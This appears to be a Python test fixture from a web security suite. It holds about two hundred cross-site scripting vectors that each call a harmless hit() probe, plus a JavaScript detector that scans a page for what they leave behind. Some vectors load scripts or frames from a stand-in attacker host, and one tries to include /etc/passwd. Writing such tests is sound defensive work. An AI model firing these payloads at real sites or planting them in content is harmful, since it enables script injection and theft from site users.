"""Two hundred texts that would run a script on a page that forgets to quote one. Each calls `hit()`; own list (T9)."""

BY_HAND = r"""
<script>hit()</script>
<ScRiPt>hit()</ScRiPt>
<script src=//kwaad.example/x.js></script>
<script src=data:,hit()></script>
<script type=module>hit()</script>
<script/x>hit()</script>
<script@FF@>hit()</script>
<script>hit()//
<script async src=https://kwaad.example/x.js>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit();//<</script>
</script><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
</style><script>hit()</script>
</noscript><script>hit()</script>
</template><script>hit()</script>
</select><script>hit()</script>
</option></select><img src=x onerror=hit()>
</svg><script>hit()</script>
--><script>hit()</script>
--!><script>hit()</script>
]]><script>hit()</script>
*/hit();/*
';hit();//
";hit();//
\';hit();//
`;hit();//
${hit()}
{{hit()}}
{{constructor.constructor('hit()')()}}
{% load hit %}{{ hit }}
{%raw%}<script>hit()</script>{%endraw%}
<%= hit() %>
#{hit()}
[[hit()]]
"><script>hit()</script>
'><script>hit()</script>
`><script>hit()</script>
x"><img src=x onerror=hit()>
x'><img src=x onerror=hit()>
x onmouseover=hit() x=
x" onmouseover="hit()" x="
x' onmouseover='hit()' x='
x` onmouseover=`hit()` x=`
" autofocus onfocus="hit()
' autofocus onfocus='hit()
" style="animation:x" onanimationstart="hit()
" accesskey="x" onclick="hit()
/><svg onload=hit()>
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img/src=x/onerror=hit()>
<img src=x:x onerror=hit()//
<IMG SRC=x OnErRoR=hit()>
<img src=x onerror=&#104;&#105;&#116;&#40;&#41;>
<img src=x onerror=\u0068it()>
<img src="x` `<script>hit()</script>"` `>
<img ''><script>hit()</script>''>
<img src=https://kwaad.example/p.png>
<img srcset=//kwaad.example/p.png>
<picture><source srcset=//kwaad.example/x><img onerror=hit()></picture>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=data:,hit() />
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set onbegin=hit() attributeName=x>
<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>
<svg><use href=data:image/svg+xml,x#x>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<math><mtext><table><mglyph><style><img src=x onerror=hit()>
<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>
<math href=javascript:hit()>x</math>
<a href=javascript:hit()>x</a>
<a href=JaVaScRiPt:hit()>x</a>
<a href=" javascript:hit()">x</a>
<a href="java&#9;script:hit()">x</a>
<a href="java&#10;script:hit()">x</a>
<a href="&#1;javascript:hit()">x</a>
<a href=&#106;avascript:hit()>x</a>
<a href=javascript&colon;hit()>x</a>
<a href=vbscript:hit()>x</a>
<a href=data:text/html,<script>hit()</script>>x</a>
<a href=data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==>x</a>
<a href=//kwaad.example>x</a>
<a id=kwaad name=kwaad href=x>x</a>
javascript:hit()
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+hit()//'>
data:text/html,<script>hit()</script>
[x](javascript:hit())
![x](x"onerror="hit())
[x]: javascript:hit()
<javascript:hit()>
<https://x.example" onclick="hit()>
https://x.example/"onmouseover="hit()
http://x.example/<script>hit()</script>
<iframe src=javascript:hit()>
<iframe src=//kwaad.example>
<iframe srcdoc="<script>parent.hit()</script>">
<iframe srcdoc=&lt;img/src=x&#32;onerror=parent.hit()&gt;>
<frameset onload=hit()>
<object data=javascript:hit()>
<object data=//kwaad.example/x.swf>
<embed src=javascript:hit()>
<embed src=//kwaad.example/x.svg>
<applet code=hit>
<base href=//kwaad.example/>
<base href=javascript:hit()//>
<link rel=stylesheet href=//kwaad.example/x.css>
<link rel=import href=//kwaad.example>
<link rel=prefetch href=//kwaad.example>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=//kwaad.example">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<meta charset=utf-7>+ADw-script+AD4-hit()+ADw-/script+AD4-
<style>@import '//kwaad.example/x.css';</style>
<style>*{background:url(//kwaad.example)}</style>
<style>body{display:none}</style>
<div style="background:url(//kwaad.example)">x</div>
<div style="width:expression(hit())">x</div>
<div style="behavior:url(#x)">x</div>
<form action=javascript:hit()><button>x</button></form>
<form id=kwaad><input name=action><input name=submit></form>
<button formaction=javascript:hit()>x</button>
<input type=image src=x onerror=hit()>
<input autofocus onfocus=hit()>
<input type=submit formaction=//kwaad.example value=x>
<isindex type=image src=x onerror=hit()>
<select autofocus onfocus=hit()></select>
<textarea autofocus onfocus=hit()></textarea>
<keygen autofocus onfocus=hit()>
<details open ontoggle=hit()>x</details>
<video src=x onerror=hit()>
<video><source onerror=hit()></video>
<video poster=javascript:hit()>
<audio src=x onerror=hit()>
<body onload=hit()>
<body background=javascript:hit()>
<html onmouseover=hit()>
<marquee onstart=hit()>x</marquee>
<table background=javascript:hit()><td>x</table>
<plaintext>
<xmp><script>hit()</script></xmp>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<template><script>hit()</script></template>
<dialog open onclose=hit()>x</dialog>
<custom-x onclick=hit() tabindex=1>x</custom-x>
<x contenteditable onblur=hit()>x</x>
<x onclick=hit()>x
<!--><img src=x onerror=hit()>-->
<!--[if IE]><script>hit()</script><![endif]-->
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">hit()</script>
<![CDATA[<script>hit()</script>]]>
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
%3Cscript%3Ehit()%3C/script%3E
\x3cscript\x3ehit()\x3c/script\x3e
\u003cscript\u003ehit()\u003c/script\u003e
＜script＞hit()＜/script＞
@RTL@<script>hit()</script>
<c-button onclick=hit()>x</c-button>
{% include "/etc/passwd" %}
{{ request.session.items }}<img src=x onerror=hit()>
<img src=x onerror=window['hit']()>
<img src=x onerror=(hit)()>
<img src=x onerror=hit``>
""".strip("\n")

EVENTS = (
    "onabort", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforetoggle", "oncanplay", "onchange",
    "oncontextmenu", "oncopy", "oncuechange", "oncut", "ondblclick",
    "ondrag", "ondrop", "oninput", "oninvalid", "onkeydown", "onkeyup",
    "onmouseenter", "onmousedown", "onpaste", "onpointerenter", "onpointerover", "onpointerrawupdate", "onscroll",
    "onscrollend", "onsearch", "onselect", "onsubmit", "ontransitionend", "onwheel",
)  # fmt: skip
VECTORS = (
    *(one.replace("@RTL@", "\u202e").replace("@FF@", "\x0c") for one in BY_HAND.splitlines()),
    *(f"<b {event}=hit() tabindex=0 id=kwaad>x</b>" for event in EVENTS),
)

FIND = """(document) => {
  const found = (window.hits || []).map((one) => `a script ran: ${one}`);
  const bad = /^[\\u0000-\\u0020]*(javascript|vbscript|data):/i;
  for (const one of document.querySelectorAll('*')) {
    const said = one.outerHTML.slice(0, 200);
    for (const {name, value} of one.attributes) {
      if (name.startsWith('on')) { found.push(`${name}: ${said}`); }
      if (name === 'style') { found.push(`style: ${said}`); }
      if (['id', 'name', 'srcdoc'].includes(name) && /kwaad|hit\\(/.test(value)) { found.push(`${name}: ${said}`); }
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background', 'srcset'].includes(name)
          && (bad.test(value) || /kwaad\\.example/.test(value)) && !one.matches('img[src^="data:image/"]')) {
        found.push(`${name}: ${said}`);
      }
    }
    const tag = one.localName;
    if (tag === 'script' && !one.src && !/json/.test(one.type)) { found.push(`script: ${said}`); }
    const strange = 'iframe object embed base applet frameset marquee plaintext xmp math style keygen video audio';
    if (strange.split(' ').includes(tag)) { found.push(`${tag}: ${said}`); }
    if (['animate', 'set', 'foreignobject'].includes(tag) || tag.startsWith('c-') || tag === 'x') {
      found.push(`${tag}: ${said}`);
    }
    if (tag === 'meta' && one.httpEquiv) { found.push(`meta: ${said}`); }
    if (tag === 'link' && /import|prefetch/.test(one.rel)) { found.push(`link: ${said}`); }
  }
  return found.concat(window.refused || []);
}"""
FIND_HERE = f"() => ({FIND})(document)"
FIND_ON_A_BARE_PAGE = f"""(vectors) => vectors.filter((one) => {{
  const bare = new DOMParser().parseFromString(
    `<p>${{one}}</p><p title="${{one}}">x</p><p title='${{one}}'>x</p><p title=${{one}}>x</p><a href="${{one}}">x</a>`,
    'text/html');
  return ({FIND})(bare).length > 0;
}})"""
"""Everything on a page that a vector would leave there. Our own pages use no style, no handler and no inline script."""

BEFORE = """
window.hits = []; window.refused = [];
window.hit = () => { window.hits.push(document.currentScript?.outerHTML || 'handler'); };
document.addEventListener('securitypolicyviolation', (event) => {
  window.refused.push(`refused by the policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""
